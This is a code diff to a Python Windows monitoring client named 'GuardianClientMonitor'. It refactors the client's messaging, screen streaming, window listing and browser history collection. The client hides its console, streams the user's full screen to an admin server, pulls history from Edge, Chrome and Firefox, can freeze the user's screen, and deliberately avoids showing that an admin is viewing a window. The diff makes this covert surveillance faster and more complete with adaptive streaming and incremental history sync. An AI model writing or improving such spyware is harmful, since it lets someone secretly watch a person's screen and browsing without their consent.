@@ -1,28 +1,27 @@
 import socket
-import pickle
 import threading
 import time
 import io
 import os
 import sys
-import pyautogui
-import psutil
 import win32gui
 import win32process
 import win32con
 import win32api
 import winreg
 import ctypes
-from PIL import Image
-import sqlite3
-import shutil
-import datetime
 import logging
 import tempfile
 from pathlib import Path
-import numpy as np
+from concurrent.futures import ThreadPoolExecutor
 import cv2
 from tkinter import Tk, Canvas, PhotoImage, BOTH
+from nikimonitorscreenPROTOCOL import FrameReader, ProtocolError, send_message, decode_message
+from nikimonitorscreenCAPTURE import create_capture_backend
+from nikimonitorscreenHISTORY import HistoryDatabase
+from nikimonitorscreenWINDOWS import ProcessNameCache, WindowListTracker
+from nikimonitorscreenSTREAM import (TileDeltaEncoder, FrameScaler, StreamPipeline, BitrateController,
+                                     merge_frame_messages)
 
 # Configure logging
 logging.basicConfig(
@@ -32,6 +31,15 @@ logging.basicConfig(
     filemode='a'
 )
 
+# Chromium browsers count visit times in microseconds since 1601-01-01, Firefox since 1970
+CHROMIUM_EPOCH_OFFSET = 11644473600 * 1_000_000
+
+# History visits older than this are never collected
+HISTORY_MAX_AGE = 7 * 24 * 60 * 60
+
+# Visits sent per browser_history message; more are sent as further pages
+HISTORY_PAGE_SIZE = 200
+
 class GuardianClientMonitor:
     def __init__(self):
         # Connection settings
@@ -46,6 +54,7 @@ class GuardianClientMonitor:
         self.screen_frozen = False      # Freeze the user's screen
         self.running = True
         self.socket = None
+        self.send_lock = threading.Lock()  # Stream and command threads share the socket
         
         # Screen freeze settings
         self.freeze_window = None
@@ -53,11 +62,37 @@ class GuardianClientMonitor:
         self.freeze_image = None
         self.freeze_photo = None
         
+        # Screen capture - "auto" uses mss when installed, otherwise pyautogui
+        self.capture_backend = create_capture_backend("auto")
+        self.frame_scaler = FrameScaler()  # Pooled, scaled BGR frames for encoding
+        
+        # Browser history sync - highest visit id already delivered, per browser
+        self.history_watermarks = {}
+        self.history_databases = {}  # Browser -> HistoryDatabase, kept open between polls
+        self.history_pool = ThreadPoolExecutor(max_workers=3, thread_name_prefix="history")
+        self.history_generation = 0  # Bumped by every get_history, older collections give up
+        self.history_full_pending = set()  # Browsers still owed a full resync
+        self.history_lock = threading.Lock()
+        
+        # Window list - process names cached across enumerations, windows indexed by id
+        self.process_names = ProcessNameCache()
+        self.window_tracker = WindowListTracker()  # Stable ids, and what the admin already has
+        self.window_index = {}
+        
         # Stream settings
         self.stream_fps = 20           # Target frames per second for screen streaming
         self.stream_quality = 50        # JPEG quality (1-100)
         self.stream_scale = 0.7         # Scale factor to reduce bandwidth
         self.streaming = False          # Flag to control streaming
+        self.stream_pipeline = None     # Capture/encode/send stages, exposes per-stage timings
+        self.stream_encoder = None      # Tile encoder of the running stream
+        
+        # Adaptive bitrate - quality, scale and fps are adjusted within these bounds
+        self.stream_target_bitrate = 4_000_000  # Bits per second to aim for
+        self.stream_quality_range = (20, 80)
+        self.stream_scale_range = (0.4, 1.0)
+        self.stream_fps_range = (5, 20)
+        self.bitrate_controller = None
         
         # Attempt to hide the console window if running as an executable
         self.hide_console()
@@ -139,8 +174,12 @@ class GuardianClientMonitor:
                 
                 # If we get here, connection was successful
                 self.connected = True
+                self.window_tracker.reset()  # A new admin session starts from a full list
                 logging.info("Connected to server successfully")
                 
+                # Tell the admin who we are, since our address can change or be shared
+                self.send_data({"type": "client_info", "hostname": socket.gethostname()})
+                
                 # Reset attempt counter
                 attempts = 0
                 
@@ -264,40 +303,30 @@ class GuardianClientMonitor:
     
     def listen_for_commands(self):
         """Listen for commands from the server"""
-        buffer_size = 4096
-        data = b""
+        reader = FrameReader()
         
         while self.connected and self.running:
             try:
-                # Receive data
-                chunk = self.socket.recv(buffer_size)
+                # Receive directly into the reusable frame buffer
+                received = reader.recv_from(self.socket)
                 
-                if not chunk:
+                if not received:
                     # Connection closed by server
                     logging.warning("Connection closed by server")
                     break
                 
-                # Add chunk to buffer
-                data += chunk
-                
-                # Try to unpickle the data
-                try:
-                    # Check if we have complete data
-                    command = pickle.loads(data)
-                    
-                    # Process command
+                # Process every complete command that has arrived
+                for msg_type, flags, payload in reader.frames():
+                    command = decode_message(msg_type, payload)
                     self.process_command(command)
-                    
-                    # Reset buffer
-                    data = b""
-                    
-                except pickle.UnpicklingError:
-                    # Incomplete data, continue receiving
-                    pass
                 
             except socket.timeout:
                 # Socket timeout, just continue
                 continue
+            
+            except ProtocolError as e:
+                logging.error(f"Protocol error, dropping connection: {e}")
+                break
                 
             except Exception as e:
                 logging.error(f"Error receiving commands: {e}")
@@ -327,12 +356,12 @@ class GuardianClientMonitor:
                 self.send_screenshot()
                 
             elif command_type == "get_windows":
-                # Send list of open windows
-                self.send_windows_list()
+                # Send list of open windows, only what changed unless a full list is asked for
+                self.send_windows_list(command.get("full", False))
                 
             elif command_type == "get_history":
-                # Send browser history
-                self.send_browser_history()
+                # Send browser history, only what is new unless a full resync is asked for
+                self.send_browser_history(command.get("full", False))
                 
             elif command_type == "view_window":
                 # Focus on specific window
@@ -354,13 +383,18 @@ class GuardianClientMonitor:
                     self.unfreeze_screen()
                 
             elif command_type == "start_stream":
-                # Start screen streaming
+                # Start screen streaming, or send a keyframe if already streaming
                 self.start_screen_stream()
                 
             elif command_type == "stop_stream":
                 # Stop screen streaming
                 self.stop_screen_stream()
                 
+            elif command_type == "stream_ack":
+                # Admin has displayed a streamed frame
+                if self.bitrate_controller:
+                    self.bitrate_controller.record_ack(command.get("seq", 0))
+            
             elif command_type == "disconnect":
                 # Disconnect from server
                 logging.info("Received disconnect command")
@@ -378,11 +412,9 @@ class GuardianClientMonitor:
             return False
         
         try:
-            # Serialize data with pickle
-            serialized_data = pickle.dumps(data)
-            
-            # Send data
-            self.socket.sendall(serialized_data)
+            # Send as a single length-prefixed frame
+            with self.send_lock:
+                send_message(self.socket, data)
             return True
             
         except Exception as e:
@@ -396,24 +428,23 @@ class GuardianClientMonitor:
             return
         
         try:
-            # Capture screenshot using pyautogui
-            screenshot = pyautogui.screenshot()
-            
-            # Resize to reduce bandwidth if needed
-            if self.stream_scale < 1.0:
-                width, height = screenshot.size
-                new_width = int(width * self.stream_scale)
-                new_height = int(height * self.stream_scale)
-                screenshot = screenshot.resize((new_width, new_height), Image.LANCZOS)
+            # Capture and resize to reduce bandwidth if needed
+            frame = self.frame_scaler.scale(
+                self.capture_backend.grab(),
+                min(self.stream_scale, 1.0),
+                order=self.capture_backend.order
+            )
             
             # Convert to bytes
-            img_bytes = io.BytesIO()
-            screenshot.save(img_bytes, format='JPEG', quality=self.stream_quality)
+            ok, encoded = cv2.imencode(".jpg", frame, [cv2.IMWRITE_JPEG_QUALITY, int(self.stream_quality)])
+            self.frame_scaler.release(frame)
+            if not ok:
+                raise RuntimeError("JPEG encoding failed")
             
             # Prepare data
             data = {
                 "type": "screenshot",
-                "data": img_bytes.getvalue()
+                "data": encoded.tobytes()
             }
             
             # Send to server
@@ -423,8 +454,11 @@ class GuardianClientMonitor:
             logging.error(f"Error capturing screenshot: {e}")
     
     def start_screen_stream(self):
-        """Start streaming the screen to the server"""
+        """Start streaming the screen to the server, or restart a running stream from a keyframe"""
         if self.streaming:
+            # The admin switched to this client and has nothing to apply deltas to
+            if self.stream_encoder is not None:
+                self.stream_encoder.request_keyframe()
             return
         
         self.streaming = True
@@ -441,85 +475,71 @@ class GuardianClientMonitor:
         self.streaming = False
         logging.info("Screen streaming stopped")
     
+    def capture_stream_frame(self):
+        """Capture the screen as a scaled BGR frame for streaming"""
+        # Capture screenshot of entire screen, regardless of which window is in focus
+        frame = self.capture_backend.grab()
+        
+        # Resize to reduce bandwidth straight into a reused buffer, converting
+        # to BGR on the small frame; the tile encoder works on that buffer directly
+        return self.frame_scaler.scale(frame, self.stream_scale, order=self.capture_backend.order)
+    
+    def send_stream_message(self, message):
+        """Send a streamed frame update and feed the bitrate controller"""
+        size = sum(len(tile["data"]) for tile in message["tiles"])
+        
+        start = time.perf_counter()
+        sent = self.send_data(message)
+        self.bitrate_controller.record_send(message["seq"], size, time.perf_counter() - start)
+        
+        # Apply any new settings to the running stream
+        if self.bitrate_controller.update():
+            self.stream_quality = self.stream_encoder.quality = self.bitrate_controller.quality
+            self.stream_scale = self.bitrate_controller.scale
+            self.stream_fps = self.stream_pipeline.fps = self.bitrate_controller.fps
+        
+        return sent
+    
     def stream_screen(self):
         """Stream screen continuously to the server"""
-        frame_delay = 1.0 / self.stream_fps  # Time between frames
+        # Tile encoder remembers what the admin has and sends only dirty tiles
+        self.stream_encoder = TileDeltaEncoder(quality=self.stream_quality)
         
-        prev_frame = None
-        while self.streaming and self.connected and not self.monitoring_paused:
-            try:
-                start_time = time.time()
-                
-                # Capture screenshot of entire screen, regardless of which window is in focus
-                screenshot = pyautogui.screenshot()
-                
-                # Convert to numpy array for processing
-                frame = np.array(screenshot)
-                frame = cv2.cvtColor(frame, cv2.COLOR_RGB2BGR)
-                
-                # Resize to reduce bandwidth
-                if self.stream_scale < 1.0:
-                    frame = cv2.resize(
-                        frame, 
-                        (0, 0), 
-                        fx=self.stream_scale, 
-                        fy=self.stream_scale, 
-                        interpolation=cv2.INTER_AREA
-                    )
-                
-                # Only send if frame changed significantly or periodically
-                send_frame = False
-                if prev_frame is None:
-                    send_frame = True
-                else:
-                    # Calculate difference between frames
-                    # Simple method: just check if more than 1% of pixels changed significantly
-                    diff = cv2.absdiff(frame, prev_frame)
-                    changed_pixels = np.sum(diff > 30)  # Threshold for change
-                    total_pixels = frame.shape[0] * frame.shape[1] * frame.shape[2]
-                    change_percentage = changed_pixels / total_pixels
-                    
-                    if change_percentage > 0.01:  # 1% threshold
-                        send_frame = True
-                
-                # Send frame if needed
-                if send_frame:
-                    # Convert back to PIL for JPEG compression
-                    frame_rgb = cv2.cvtColor(frame, cv2.COLOR_BGR2RGB)
-                    pil_img = Image.fromarray(frame_rgb)
-                    
-                    # Compress and send
-                    img_bytes = io.BytesIO()
-                    pil_img.save(img_bytes, format='JPEG', quality=self.stream_quality)
-                    
-                    # Prepare data
-                    data = {
-                        "type": "screenshot",  # Keep same type for compatibility
-                        "data": img_bytes.getvalue()
-                    }
-                    
-                    # Send to server
-                    self.send_data(data)
-                    
-                    # Update previous frame
-                    prev_frame = frame
-                
-                # Calculate time to wait to maintain frame rate
-                elapsed = time.time() - start_time
-                sleep_time = max(0, frame_delay - elapsed)
-                if sleep_time > 0:
-                    time.sleep(sleep_time)
-                
-            except Exception as e:
-                logging.error(f"Error streaming screen: {e}")
-                time.sleep(1)  # Wait a bit before trying again
+        # Adjusts quality, scale and fps toward the target bitrate
+        self.bitrate_controller = BitrateController(
+            target_bps=self.stream_target_bitrate,
+            quality=self.stream_quality,
+            scale=self.stream_scale,
+            fps=self.stream_fps,
+            quality_range=self.stream_quality_range,
+            scale_range=self.stream_scale_range,
+            fps_range=self.stream_fps_range
+        )
         
-        logging.info("Screen streaming thread ended")
+        # Capture, encode and send run as separate stages so a slow socket
+        # never stalls capture and a slow encoder never sends stale frames
+        self.stream_pipeline = StreamPipeline(
+            capture=self.capture_stream_frame,
+            encode=self.stream_encoder.encode,
+            send=self.send_stream_message,
+            fps=self.stream_fps,
+            is_active=lambda: self.streaming and self.connected and not self.monitoring_paused,
+            merge=merge_frame_messages,
+            release=self.frame_scaler.release
+        )
+        
+        try:
+            self.stream_pipeline.run()
+        except Exception as e:
+            logging.error(f"Error streaming screen: {e}")
+        
+        # Stop flag so keep_alive can restart streaming after a reconnect
+        self.streaming = False
+        logging.info(f"Screen streaming thread ended, stage stats: {self.stream_pipeline.stats()}")
     
     def get_window_list(self):
         """Get list of open windows"""
         windows = []
-        window_ids = {}
         
         def enum_windows_callback(hwnd, result):
             # Check if window is visible
@@ -532,30 +552,13 @@ class GuardianClientMonitor:
                     return True
                 
                 try:
-                    # Get process ID
+                    # Get process ID, names are resolved for all windows at once below
                     _, process_id = win32process.GetWindowThreadProcessId(hwnd)
-                    
-                    # Get process name
-                    try:
-                        process = psutil.Process(process_id)
-                        process_name = process.name()
-                    except:
-                        process_name = "Unknown"
-                    
-                    # Skip certain system processes
-                    if process_name in ["explorer.exe"] and title in ["", "Windows Explorer"]:
-                        return True
-                    
-                    # Add to list if not already added
-                    if hwnd not in window_ids:
-                        window_ids[hwnd] = len(windows) + 1
-                        windows.append({
-                            "id": window_ids[hwnd],
-                            "hwnd": hwnd,
-                            "title": title,
-                            "process": process_name
-                        })
-                    
+                    windows.append({
+                        "hwnd": hwnd,
+                        "title": title,
+                        "pid": process_id
+                    })
                 except Exception as e:
                     logging.error(f"Error getting window info: {e}")
                 
@@ -564,24 +567,41 @@ class GuardianClientMonitor:
         # Enumerate all windows
         win32gui.EnumWindows(enum_windows_callback, None)
         
+        # Each distinct process is checked once, and only new processes are opened
+        process_names = self.process_names.resolve(window["pid"] for window in windows)
+        for window in windows:
+            window["process"] = process_names[window.pop("pid")]
+        
+        # Skip certain system processes
+        windows = [window for window in windows
+                   if not (window["process"] == "explorer.exe" and window["title"] == "Windows Explorer")]
+        
         # Sort by window title
         windows.sort(key=lambda w: w["title"].lower())
         
+        # Ids follow a window for as long as it exists
+        self.window_tracker.assign_ids(windows)
+        
+        # Index for view_window lookups until the next enumeration
+        self.window_index = {window["id"]: window for window in windows}
+        
         return windows
     
-    def send_windows_list(self):
-        """Send list of open windows to server"""
+    def send_windows_list(self, full=False):
+        """Send open windows to server, as a full list or as changes since the last one"""
         try:
             # Get window list
             windows = self.get_window_list()
             
             # Prepare data
-            data = {
-                "type": "windows_list",
-                "data": windows
-            }
+            if full:
+                data = self.window_tracker.full_message(windows)
+            else:
+                data = self.window_tracker.delta_message(windows)
+                if data is None:
+                    return  # Nothing changed, nothing to send
             
-            # Send to server
+            # Send to server; if this fails the connection is gone and the next session starts over
             self.send_data(data)
             
         except Exception as e:
@@ -590,26 +610,22 @@ class GuardianClientMonitor:
     def focus_window(self, window_id):
         """Record which window the admin wants to view, without changing focus on client"""
         try:
-            # Get window list
-            windows = self.get_window_list()
-            
-            # Find window with matching ID
-            target_window = None
-            for window in windows:
-                if window["id"] == window_id:
-                    target_window = window
-                    break
+            # IDs refer to the list the admin was last sent, so look them up there
+            target_window = self.window_index.get(window_id)
             
-            if target_window:
+            if target_window and win32gui.IsWindow(target_window["hwnd"]):
+                # The title may have changed since the enumeration
+                title = win32gui.GetWindowText(target_window["hwnd"]) or target_window["title"]
+                
                 # Record that this window is being viewed, but DON'T bring it to foreground
                 # to prevent the user from noticing the monitoring
-                logging.info(f"Admin is viewing window: {target_window['title']} (invisible to user)")
+                logging.info(f"Admin is viewing window: {title} (invisible to user)")
                 
                 # Send confirmation to server
                 self.send_data({
                     "type": "view_status",
                     "window_id": window_id,
-                    "title": target_window['title'],
+                    "title": title,
                     "status": "success"
                 })
             else:
@@ -618,27 +634,23 @@ class GuardianClientMonitor:
         except Exception as e:
             logging.error(f"Error in view_window: {e}")
     
-    def get_browser_history(self):
-        """Get browser history from multiple browsers"""
-        history = []
-        
-        # Try to get history from multiple browsers
-        edge_history = self.get_edge_history()
-        chrome_history = self.get_chrome_history()
-        firefox_history = self.get_firefox_history()
-        
-        # Combine all histories
-        history.extend(edge_history)
-        history.extend(chrome_history)
-        history.extend(firefox_history)
-        
-        # Sort by time (most recent first)
-        history.sort(key=lambda x: x.get('time', '00:00:00'), reverse=True)
-        
-        return history
+    def history_extractors(self):
+        """Return (browser, extractor) pairs for every supported browser"""
+        return (
+            ("Microsoft Edge", self.get_edge_history),
+            ("Google Chrome", self.get_chrome_history),
+            ("Firefox", self.get_firefox_history)
+        )
+    
+    def history_database(self, browser, path):
+        """Return the reusable reader for a browser's history database"""
+        database = self.history_databases.get(browser)
+        if database is None or database.path != os.path.abspath(path):
+            database = self.history_databases[browser] = HistoryDatabase(path)
+        return database
     
-    def get_edge_history(self):
-        """Get Microsoft Edge browser history"""
+    def get_edge_history(self, since_id=0, limit=HISTORY_PAGE_SIZE):
+        """Get Microsoft Edge browser history visits after visit id `since_id`, oldest first, at most `limit`"""
         history = []
         
         try:
@@ -653,71 +665,46 @@ class GuardianClientMonitor:
                 logging.warning("Edge history database not found")
                 return history
             
-            # Create a copy of the database to avoid lock issues
-            temp_db_path = os.path.join(tempfile.gettempdir(), 'edge_history_temp.db')
-            shutil.copy2(edge_data_path, temp_db_path)
-            
-            # Connect to the copied database
-            conn = sqlite3.connect(temp_db_path)
-            cursor = conn.cursor()
+            # Read the live database in place, reusing the connection between polls
+            database = self.history_database("Microsoft Edge", edge_data_path)
             
             # Query recent history (last 7 days)
-            time_limit = int((datetime.datetime.now() - datetime.datetime(1970, 1, 1)).total_seconds()) - (7 * 24 * 60 * 60)
-            cursor.execute(
+            time_limit = int(time.time() - HISTORY_MAX_AGE) * 1_000_000
+            rows = database.query(
                 """
                 SELECT 
+                    visits.id,
                     urls.url, 
                     urls.title, 
-                    datetime(visits.visit_time/1000000-11644473600, 'unixepoch', 'localtime') as visit_time
+                    visits.visit_time - ? as visit_time
                 FROM 
                     urls JOIN visits ON urls.id = visits.url
                 WHERE 
-                    visits.visit_time/1000000-11644473600 > ?
+                    visits.id > ?
+                    AND visits.visit_time > ?
                 ORDER BY 
-                    visits.visit_time DESC
-                LIMIT 200
+                    visits.id
+                LIMIT ?
                 """, 
-                (time_limit,)
+                (CHROMIUM_EPOCH_OFFSET, since_id, time_limit + CHROMIUM_EPOCH_OFFSET, limit)
             )
             
-            # Format results
-            for row in cursor.fetchall():
-                url, title, visit_time = row
-                
-                # Format time
-                try:
-                    dt = datetime.datetime.strptime(visit_time, '%Y-%m-%d %H:%M:%S')
-                    time_str = dt.strftime('%H:%M:%S')
-                    date_str = dt.strftime('%Y-%m-%d')
-                except:
-                    time_str = "00:00:00"
-                    date_str = "Unknown"
-                
-                # Add to history list
-                history.append({
-                    "url": url,
-                    "title": title or url,
-                    "time": time_str,
-                    "date": date_str,
-                    "browser": "Microsoft Edge"
-                })
-            
-            # Close connection
-            conn.close()
-            
-            # Clean up
-            try:
-                os.remove(temp_db_path)
-            except:
-                pass
+            # Timestamps stay raw unix microseconds; the admin formats the rows it shows
+            history = [{
+                "url": url,
+                "title": title or url,
+                "timestamp": visit_time or 0,
+                "browser": "Microsoft Edge",
+                "visit_id": visit_id
+            } for visit_id, url, title, visit_time in rows]
             
         except Exception as e:
             logging.error(f"Error getting Edge history: {e}")
         
         return history
     
-    def get_chrome_history(self):
-        """Get Google Chrome browser history"""
+    def get_chrome_history(self, since_id=0, limit=HISTORY_PAGE_SIZE):
+        """Get Google Chrome browser history visits after visit id `since_id`, oldest first, at most `limit`"""
         history = []
         
         try:
@@ -732,71 +719,46 @@ class GuardianClientMonitor:
                 logging.warning("Chrome history database not found")
                 return history
             
-            # Create a copy of the database to avoid lock issues
-            temp_db_path = os.path.join(tempfile.gettempdir(), 'chrome_history_temp.db')
-            shutil.copy2(chrome_data_path, temp_db_path)
-            
-            # Connect to the copied database
-            conn = sqlite3.connect(temp_db_path)
-            cursor = conn.cursor()
+            # Read the live database in place, reusing the connection between polls
+            database = self.history_database("Google Chrome", chrome_data_path)
             
             # Query recent history (last 7 days)
-            time_limit = int((datetime.datetime.now() - datetime.datetime(1970, 1, 1)).total_seconds()) - (7 * 24 * 60 * 60)
-            cursor.execute(
+            time_limit = int(time.time() - HISTORY_MAX_AGE) * 1_000_000
+            rows = database.query(
                 """
                 SELECT 
+                    visits.id,
                     urls.url, 
                     urls.title, 
-                    datetime(visits.visit_time/1000000-11644473600, 'unixepoch', 'localtime') as visit_time
+                    visits.visit_time - ? as visit_time
                 FROM 
                     urls JOIN visits ON urls.id = visits.url
                 WHERE 
-                    visits.visit_time/1000000-11644473600 > ?
+                    visits.id > ?
+                    AND visits.visit_time > ?
                 ORDER BY 
-                    visits.visit_time DESC
-                LIMIT 200
+                    visits.id
+                LIMIT ?
                 """, 
-                (time_limit,)
+                (CHROMIUM_EPOCH_OFFSET, since_id, time_limit + CHROMIUM_EPOCH_OFFSET, limit)
             )
             
-            # Format results
-            for row in cursor.fetchall():
-                url, title, visit_time = row
-                
-                # Format time
-                try:
-                    dt = datetime.datetime.strptime(visit_time, '%Y-%m-%d %H:%M:%S')
-                    time_str = dt.strftime('%H:%M:%S')
-                    date_str = dt.strftime('%Y-%m-%d')
-                except:
-                    time_str = "00:00:00"
-                    date_str = "Unknown"
-                
-                # Add to history list
-                history.append({
-                    "url": url,
-                    "title": title or url,
-                    "time": time_str,
-                    "date": date_str,
-                    "browser": "Google Chrome"
-                })
-            
-            # Close connection
-            conn.close()
-            
-            # Clean up
-            try:
-                os.remove(temp_db_path)
-            except:
-                pass
+            # Timestamps stay raw unix microseconds; the admin formats the rows it shows
+            history = [{
+                "url": url,
+                "title": title or url,
+                "timestamp": visit_time or 0,
+                "browser": "Google Chrome",
+                "visit_id": visit_id
+            } for visit_id, url, title, visit_time in rows]
             
         except Exception as e:
             logging.error(f"Error getting Chrome history: {e}")
         
         return history
     
-    def get_firefox_history(self):
-        """Get Firefox browser history"""
+    def get_firefox_history(self, since_id=0, limit=HISTORY_PAGE_SIZE):
+        """Get Firefox browser history visits after visit id `since_id`, oldest first, at most `limit`"""
         history = []
         
         try:
@@ -828,89 +790,109 @@ class GuardianClientMonitor:
                 logging.warning("Firefox places database not found")
                 return history
             
-            # Create a copy of the database to avoid lock issues
-            temp_db_path = os.path.join(tempfile.gettempdir(), 'firefox_history_temp.db')
-            shutil.copy2(places_db, temp_db_path)
-            
-            # Connect to the copied database
-            conn = sqlite3.connect(temp_db_path)
-            cursor = conn.cursor()
+            # Read the live database in place, reusing the connection between polls
+            database = self.history_database("Firefox", places_db)
             
             # Query recent history (last 7 days)
-            time_limit = int((datetime.datetime.now() - datetime.datetime(1970, 1, 1)).total_seconds()) - (7 * 24 * 60 * 60)
-            time_limit_micro = time_limit * 1000000
-            
-            cursor.execute(
+            time_limit = int(time.time() - HISTORY_MAX_AGE) * 1_000_000
+            rows = database.query(
                 """
                 SELECT 
+                    moz_historyvisits.id,
                     moz_places.url,
                     moz_places.title,
-                    datetime(moz_historyvisits.visit_date/1000000, 'unixepoch', 'localtime') as visit_time
+                    moz_historyvisits.visit_date as visit_time
                 FROM 
                     moz_places JOIN moz_historyvisits ON moz_places.id = moz_historyvisits.place_id
                 WHERE 
-                    moz_historyvisits.visit_date > ?
+                    moz_historyvisits.id > ?
+                    AND moz_historyvisits.visit_date > ?
                 ORDER BY 
-                    moz_historyvisits.visit_date DESC
-                LIMIT 200
+                    moz_historyvisits.id
+                LIMIT ?
                 """, 
-                (time_limit_micro,)
+                (since_id, time_limit, limit)
             )
             
-            # Format results
-            for row in cursor.fetchall():
-                url, title, visit_time = row
-                
-                # Format time
-                try:
-                    dt = datetime.datetime.strptime(visit_time, '%Y-%m-%d %H:%M:%S')
-                    time_str = dt.strftime('%H:%M:%S')
-                    date_str = dt.strftime('%Y-%m-%d')
-                except:
-                    time_str = "00:00:00"
-                    date_str = "Unknown"
-                
-                # Add to history list
-                history.append({
-                    "url": url,
-                    "title": title or url,
-                    "time": time_str,
-                    "date": date_str,
-                    "browser": "Firefox"
-                })
-            
-            # Close connection
-            conn.close()
-            
-            # Clean up
-            try:
-                os.remove(temp_db_path)
-            except:
-                pass
+            # Timestamps stay raw unix microseconds; the admin formats the rows it shows
+            history = [{
+                "url": url,
+                "title": title or url,
+                "timestamp": visit_time or 0,
+                "browser": "Firefox",
+                "visit_id": visit_id
+            } for visit_id, url, title, visit_time in rows]
             
         except Exception as e:
             logging.error(f"Error getting Firefox history: {e}")
         
         return history
     
-    def send_browser_history(self):
-        """Send browser history to server"""
+    def send_browser_history(self, full=False):
+        """Collect browser history on the worker pool and send each browser as it finishes
+        
+        Only visits newer than what the admin already has are sent unless
+        `full` is set. A newer request cancels collections still in flight:
+        they stop before querying, or discard their rows before sending.
+        """
+        extractors = self.history_extractors()
+        with self.history_lock:
+            self.history_generation += 1
+            generation = self.history_generation
+            
+            # A pending full resync survives being superseded by an incremental poll
+            if full:
+                self.history_full_pending.update(browser for browser, _ in extractors)
+        
+        for browser, extractor in extractors:
+            self.history_pool.submit(self.send_browser_history_chunk, generation, browser, extractor)
+    
+    def send_browser_history_chunk(self, generation, browser, extractor):
+        """Collect and send one browser's history unless a newer request superseded it
+        
+        Visits are read in pages in visit id order, and the watermark only
+        moves past a page once it has been sent, so a burst of more visits
+        than fit in one page is sent over several messages instead of being
+        skipped. Only the first page of a full resync is marked full.
+        """
         try:
-            # Get browser history from all browsers
-            history = self.get_browser_history()
-            
-            # Prepare data
-            data = {
-                "type": "browser_history",
-                "data": history
-            }
+            sent_count = 0
+            full = browser in self.history_full_pending
+            while generation == self.history_generation:
+                page = extractor(0 if full else self.history_watermarks.get(browser, 0), HISTORY_PAGE_SIZE)
+                
+                # Sort by time (most recent first)
+                history = sorted(page, key=lambda x: x["timestamp"], reverse=True)
+                
+                with self.history_lock:
+                    if generation != self.history_generation:
+                        logging.info(f"{browser} history collection superseded by a newer request")
+                        break
+                    
+                    # Send to server, only then remember what the admin has
+                    sent = self.send_data({
+                        "type": "browser_history",
+                        "browser": browser,
+                        "full": full,
+                        "data": history
+                    })
+                    if not sent:
+                        break
+                    if history:
+                        self.history_watermarks[browser] = max(item["visit_id"] for item in history)
+                    if full:
+                        self.history_full_pending.discard(browser)
+                        full = False
+                sent_count += len(history)
+                
+                # A short page means everything up to now has been sent
+                if len(page) < HISTORY_PAGE_SIZE:
+                    break
             
-            # Send to server
-            self.send_data(data)
-            logging.info(f"Sent {len(history)} browser history entries to server")
+            logging.info(f"Sent {sent_count} {browser} history entries to server")
             
         except Exception as e:
-            logging.error(f"Error sending browser history: {e}")
+            logging.error(f"Error sending {browser} history: {e}")
     
     def run_monitoring(self):
         """Main monitoring loop"""
@@ -937,7 +919,7 @@ class GuardianClientMonitor:
             self.screen_frozen = True
             
             # Capture current screen
-            screenshot = pyautogui.screenshot()
+            screenshot = self.capture_backend.grab_image()
             
             # Create tkinter window
             self.freeze_window = Tk()
@@ -1058,4 +1040,4 @@ class GuardianClientMonitor:
 
 if __name__ == "__main__":
     # Create and start client
-    client = GuardianClientMonitor()
\ No newline at end of file
+    client = GuardianClientMonitor()